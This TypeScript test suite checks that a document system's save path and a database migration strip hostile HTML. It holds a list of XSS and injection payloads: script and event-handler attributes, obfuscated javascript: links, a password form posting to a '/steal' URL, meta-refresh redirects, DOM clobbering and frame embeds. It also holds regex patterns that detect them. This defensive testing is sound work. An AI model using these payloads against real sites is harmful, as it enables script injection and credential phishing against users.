/**
 * Stored HTML is sanitized when it is saved: a note, a memo and drafts written through integration
 * REST, the backend and MCP with every hostile construct (meta refresh, base, forms, SVG/MathML,
 * handlers, javascript:/vbscript:/data: URLs, style sheets and style attributes, DOM clobbering,
 * frames) are read back clean, with their ordinary formatting intact, through REST, the backend
 * and MCP. Rows stored before are cleaned by tenant migration 012.
 */
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { quoteIdent } from '../../db/identifiers.js';
import { migrateTenantSchema } from '../../db/migrate.js';
import { sanitizeStoredHtml } from '../../db/migrations/tenant/012_sanitized_html.js';
import { seedBaseCatalog } from '../../db/seed/base-catalog.js';
import { scopeTransaction } from '../../db/tenancy.js';
import { coverHtml } from '../../domain/cases/creation.js';
import { readCoverLayout } from '../../domain/rendering/cover-layout.js';
import { escapeHtml } from '../../lib/html.js';
import { sanitizeContent } from '../../domain/rendering/sanitize.js';
import { sendMemo, sendNote } from '../support/communications.js';
import { createBackendDraft, SAMPLE_HTML } from '../support/documents.js';
import { getStack } from '../support/hooks.js';
import { tenantSchemaBefore } from '../support/migrations.js';
import { asBackend, asIntegration, demoUser, request } from '../support/http.js';
import { LUCIA, LUCIA_KEY } from '../mcp/fixtures.js';
import { clientWithToken, mcpToken } from '../mcp/support.js';

/** Formatting the desk's editor and the generated documents use: kept byte for byte. */
const ORDINARY =
  SAMPLE_HTML +
  '<h2>Detalle</h2><p style="text-align:center">Centrado</p><ol><li>uno</li><li>dos</li></ol>' +
  '<p><u>subrayado</u> <em>énfasis</em> <strong>fuerte</strong><br />línea <a href="https://www.villaesperanza.gob.ar/tramites">sitio</a> ' +
  '<a href="mailto:mesa@villaesperanza.gob.ar">correo</a></p><img src="data:image/png;base64,iVBORw0KGgo=" alt="sello" />';

/** Each hostile construct and what is left of it. */
const HOSTILE: [name: string, html: string, left: string][] = [
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/phish">', ''],
  ['base href', '<base href="http://127.0.0.1:9/">', ''],
  [
    'form and controls',
    '<form action="http://127.0.0.1:9/steal" method="post"><input name="clave" type="password"><textarea>texto-de-formulario</textarea><button formaction="http://127.0.0.1:9/x">Enviar</button></form>',
    'Enviar',
  ],
  [
    'svg with onload, script and link',
    '<svg onload="alert(1)"><script>alert(2)</script><text>texto-svg</text><a href="https://ok.example">svg-enlace</a></svg>',
    '',
  ],
  ['mathml', '<math><mtext>texto-math</mtext></math>', ''],
  ['img onerror', '<img src="x" onerror="alert(3)">', ''],
  ['javascript: link', '<a href="javascript:alert(4)">enlace-js</a>', '<a>enlace-js</a>'],
  ['obfuscated javascript: link', '<a href="  JaVaScRiPt&colon;alert(5)">enlace-js2</a>', '<a>enlace-js2</a>'],
  ['vbscript: link', '<a href="vbscript:msgbox(6)">enlace-vb</a>', '<a>enlace-vb</a>'],
  [
    'data: link and svg image',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==">enlace-data</a><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDgpIi8+">',
    '<a>enlace-data</a>',
  ],
  ['style element', '<style>body{display:none}</style>', ''],
  [
    'style attribute',
    '<p style="position:fixed;top:0;left:0;height:100%;background:url(http://127.0.0.1:9/t.png);z-index:9999;text-align:right">velo</p>',
    '<p style="text-align:right">velo</p>',
  ],
  [
    'id/name clobbering',
    '<img id="forms" name="getElementById" src="data:image/png;base64,iVBORw0KGgo="><p id="currentScript" name="x" class="y">clobber</p>',
    '<img src="data:image/png;base64,iVBORw0KGgo=" /><p>clobber</p>',
  ],
  [
    'iframe, object, embed',
    '<iframe src="http://127.0.0.1:9/frame" srcdoc="&lt;script&gt;alert(9)&lt;/script&gt;">marco</iframe><object data="http://127.0.0.1:9/o">objeto</object><embed src="http://127.0.0.1:9/e">',
    '',
  ],
  ['event handlers', '<p onclick="alert(10)" onmouseover="alert(11)">manejadores</p>', '<p>manejadores</p>'],
];
const PAYLOAD = ORDINARY + HOSTILE.map(([, html]) => html).join('');
const CLEAN = ORDINARY + HOSTILE.map(([, , left]) => left).join('');

/** Whatever interface returned it, the HTML is the clean one, and none of the hostile pieces shows. */
function assertClean(html: unknown, where: string): void {
  assert.equal(html, CLEAN, where);
  const text = html as string;
  for (const bad of [
    /<(meta|base|form|input|textarea|button|svg|math|script|style|iframe|object|embed)\b/i,
    /\son[a-z]+\s*=/i,
    /\s(id|name|class)=/i,
    /javascript:|vbscript:|data:text|image\/svg/i,
    /position|url\(|z-index|background/i,
    /127\.0\.0\.1:9/,
    /alert\(/,
    /texto-(svg|math|de-formulario)|svg-enlace/,
    /src="x"/,
  ]) {
    assert.doesNotMatch(text, bad, `${where}: ${bad}`);
  }
}

describe('documents: stored HTML is sanitized on save, for every reader', function () {
  this.timeout(180_000);
  const tag = randomUUID().slice(0, 8);
  let lucia: Client;

  /** A tool's structured answer (failing on a tool error). */
  const tool = async (name: string, args: Record<string, unknown>) => {
    const result = await lucia.callTool({ name, arguments: args });
    assert.ok(!result.isError, `${name}: ${JSON.stringify(result.content)}`);
    return result.structuredContent as Record<string, any>;
  };

  before(async () => {
    lucia = await clientWithToken(await mcpToken(LUCIA));
  });
  after(async () => {
    await lucia?.close();
  });

  it('the allow-list keeps ordinary formatting and a platform cover as they are, and is a fixed point', () => {
    assert.equal(sanitizeContent(ORDINARY), ORDINARY);
    for (const [name, html, left] of HOSTILE) assert.equal(sanitizeContent(html), left, name);
    assert.equal(sanitizeContent(CLEAN), CLEAN);
    const cover = coverHtml({
      caseNumber: 'EX-2026-00000001-MVE-DOP',
      reference: `O'Brien & <b>"Hijos"</b>`,
      template: 'T',
      sector: 'S',
      createdAt: '2026-01-02T03:04:05Z',
      creator: 'C',
      timeZone: 'UTC',
    });
    assert.equal(sanitizeContent(cover), cover, 'a cover survives saving, so it is still drawn directly');
    assert.equal(readCoverLayout(cover)?.rows[1]?.[1], `O'Brien & <b>"Hijos"</b>`);
  });

  it('a note saved through integration REST reads back clean: REST, backend and MCP, draft and delivered', async () => {
    const note = await sendNote('intendente', { to: ['DOP'] }, { reference: `Nota hostil ${tag}`, content: PAYLOAD });
    const draft = await request(`/api/v1/documents/${note.id}`, { headers: asIntegration('intendente') });
    assert.equal(draft.status, 200, draft.text);
    assertClean(draft.body.content, 'integration document detail');
    const integration = await request(`/api/v1/notes/${note.id}`, { headers: asIntegration(LUCIA_KEY) });
    assert.equal(integration.status, 200, integration.text);
    assertClean(integration.body.body, 'integration note detail');
    const content = await request(`/api/v1/documents/${note.id}/content`, { headers: asIntegration(LUCIA_KEY) });
    assert.equal(content.status, 200, content.text);
    assertClean(content.body.content, 'integration document content');
    const backend = await request(`/api/v1/notes/${note.id}`, { headers: asBackend(LUCIA_KEY) });
    assert.equal(backend.status, 200, backend.text);
    assertClean(backend.body.data.content, 'backend note detail');
    assertClean((await tool('get_note_detail', { note_id: note.id })).body, 'MCP get_note_detail');
    assertClean((await tool('get_document_content', { document_id: note.id })).content, 'MCP get_document_content');
  });

  it('a memo saved through the backend reads back clean for its recipient: backend, REST and MCP', async () => {
    const memo = await sendMemo(
      'intendente',
      { to: [LUCIA_KEY] },
      { reference: `Memo hostil ${tag}`, content: PAYLOAD },
    );
    const backend = await request(`/api/v1/memos/${memo.id}`, { headers: asBackend(LUCIA_KEY) });
    assert.equal(backend.status, 200, backend.text);
    assertClean(backend.body.data.content.html, 'backend memo detail');
    const content = await request(`/api/v1/documents/${memo.id}/content`, { headers: asIntegration(LUCIA_KEY) });
    assert.equal(content.status, 200, content.text);
    assertClean(content.body.content, 'integration memo content');
    assertClean((await tool('get_document_content', { document_id: memo.id })).content, 'MCP memo content');
  });

  it('a draft saved through the backend and one saved through MCP read back clean everywhere', async () => {
    const byBackend = await createBackendDraft(LUCIA_KEY, { reference: `Borrador hostil ${tag}` });
    const saved = await request(`/api/v1/documents/${byBackend}/save`, {
      method: 'PATCH',
      headers: asBackend(LUCIA_KEY),
      json: { content: PAYLOAD },
    });
    assert.equal(saved.status, 200, saved.text);
    const info = await request(`/api/v1/documents/${byBackend}/preview-info`, {
      method: 'POST',
      headers: asBackend(LUCIA_KEY),
    });
    assert.equal(info.status, 200, info.text);
    assertClean(info.body.data.content, 'backend preview-info');
    assertClean((await tool('get_document', { document_id: byBackend })).content, 'MCP get_document');

    const created = await tool('create_document', {
      document_type_acronym: 'INF',
      reference: `Borrador MCP hostil ${tag}`,
    });
    await tool('save_document', { document_id: created.document_id, content: PAYLOAD, signers: [demoUser(LUCIA_KEY)] });
    const rest = await request(`/api/v1/documents/${created.document_id}`, { headers: asIntegration(LUCIA_KEY) });
    assert.equal(rest.status, 200, rest.text);
    assertClean(rest.body.content, 'integration detail of an MCP draft');
  });
});

describe('documents: migration 012 cleans HTML stored before sanitizing', function () {
  this.timeout(120_000);
  const schema = `tenant_html_${randomUUID().slice(0, 8)}`;
  const sector = randomUUID();
  const clerk = randomUUID();
  const ids = {
    dirty: randomUUID(),
    clean: randomUUID(),
    empty: randomUUID(),
    oldCover: randomUUID(),
    deleted: randomUUID(),
  };
  /** Enough small dirty rows to take more than one batch. */
  const many = Array.from({ length: 1150 }, () => randomUUID());
  const cover = {
    caseNumber: 'EX-2024-00000007-ARC-ARCH',
    reference: `Pedido de O'Brien & "Hijos"`,
    template: 'Trámite',
    sector: 'Archivo',
    createdAt: '2024-03-01T12:00:00Z',
    creator: 'Archivista',
    timeZone: 'UTC',
  };
  /** A cover as the platform wrote it before migration 012: spaced styles, every quote escaped. */
  const layout = readCoverLayout(coverHtml(cover))!;
  const oldCover = `<h1 style="text-align: center">${escapeHtml(layout.title)}</h1>
<h2 style="text-align: center">${escapeHtml(layout.subtitle)}</h2>
<table>${layout.rows.map(([k, v]) => `<tr><th style="width: 35%">${escapeHtml(k)}</th><td>${escapeHtml(v)}</td></tr>`).join('')}</table>
<p>${escapeHtml(layout.closing)}</p>`;
  const edited = new Date('2024-03-02T10:00:00Z');
  let applied: string[];
  const rows = () =>
    getStack().db.transaction(async (trx) => {
      await scopeTransaction(trx, schema);
      return trx('documents').select<{ id: string; content: string | null; updated_at: Date }[]>(
        'id',
        'content',
        'updated_at',
      );
    });

  before(async () => {
    const { db } = getStack();
    // The schema as it was before migration 012, with rows written before sanitizing existed.
    await tenantSchemaBefore(db, schema, '012');
    await db.transaction(async (trx) => {
      await scopeTransaction(trx, schema);
      await seedBaseCatalog(trx);
      const inf = (await trx('document_types').where({ acronym: 'INF' }).first('id')).id;
      await trx('sectors').insert({ id: sector, name: 'Archivo', acronym: 'ARCH' });
      await trx('users').insert({
        id: clerk,
        full_name: 'Archivista',
        email: 'archivista@archivo.gob.ar',
        role: 'empleado',
      });
      const row = (id: string, content: string | null, extra: Record<string, unknown> = {}) => ({
        id,
        reference: `Documento ${id}`,
        content,
        status: 'signed',
        document_type_id: inf,
        sector_id: sector,
        created_by: clerk,
        updated_at: edited,
        ...extra,
      });
      await trx('documents').insert([
        row(ids.dirty, PAYLOAD),
        row(ids.clean, ORDINARY),
        row(ids.empty, null),
        row(ids.oldCover, oldCover),
        row(ids.deleted, PAYLOAD, { status: 'draft', deleted_at: edited, deleted_by: clerk }),
      ]);
      for (let i = 0; i < many.length; i += 500) {
        await trx('documents').insert(
          many
            .slice(i, i + 500)
            .map((id, j) =>
              row(
                id,
                `<p onclick="alert(${i + j})">fila ${i + j}</p><meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/">`,
              ),
            ),
        );
      }
    });
    // The upgrade, as `npm run migrate` runs it on an existing tenant.
    applied = await migrateTenantSchema(db, schema);
  });
  after(async () => {
    await getStack().db.raw(`drop schema if exists ${quoteIdent(schema)} cascade`);
  });

  it('rewrites every dirty row with the same sanitizer, deleted drafts included, and leaves the rest alone', async () => {
    assert.equal(applied[0], '012_sanitized_html', 'the first migration applied (later ones follow it)');
    const byId = new Map((await rows()).map((r) => [r.id, r]));
    assertClean(byId.get(ids.dirty)!.content, 'dirty row');
    assertClean(byId.get(ids.deleted)!.content, 'deleted draft');
    assert.equal(byId.get(ids.clean)!.content, ORDINARY);
    assert.equal(byId.get(ids.empty)!.content, null);
    many.forEach((id, i) => assert.equal(byId.get(id)!.content, `<p>fila ${i}</p>`, id));
    // Nobody edited these documents: their edit time stays.
    for (const r of byId.values()) assert.equal(r.updated_at.getTime(), edited.getTime(), r.id);
  });

  it('an older cover comes out exactly as covers are written now, so it is still drawn directly', async () => {
    assert.notEqual(oldCover, coverHtml(cover));
    assert.equal(readCoverLayout(oldCover), undefined);
    const stored = (await rows()).find((r) => r.id === ids.oldCover)!.content!;
    assert.equal(stored, coverHtml(cover));
    assert.equal(readCoverLayout(stored)?.rows[1]?.[1], cover.reference);
  });

  it('is idempotent: run again it finds nothing to change', async () => {
    const before = await rows();
    const changed = await getStack().db.transaction(async (trx) => {
      await scopeTransaction(trx, schema);
      return sanitizeStoredHtml(trx);
    });
    assert.equal(changed, 0);
    assert.deepEqual(await rows(), before);
  });
});
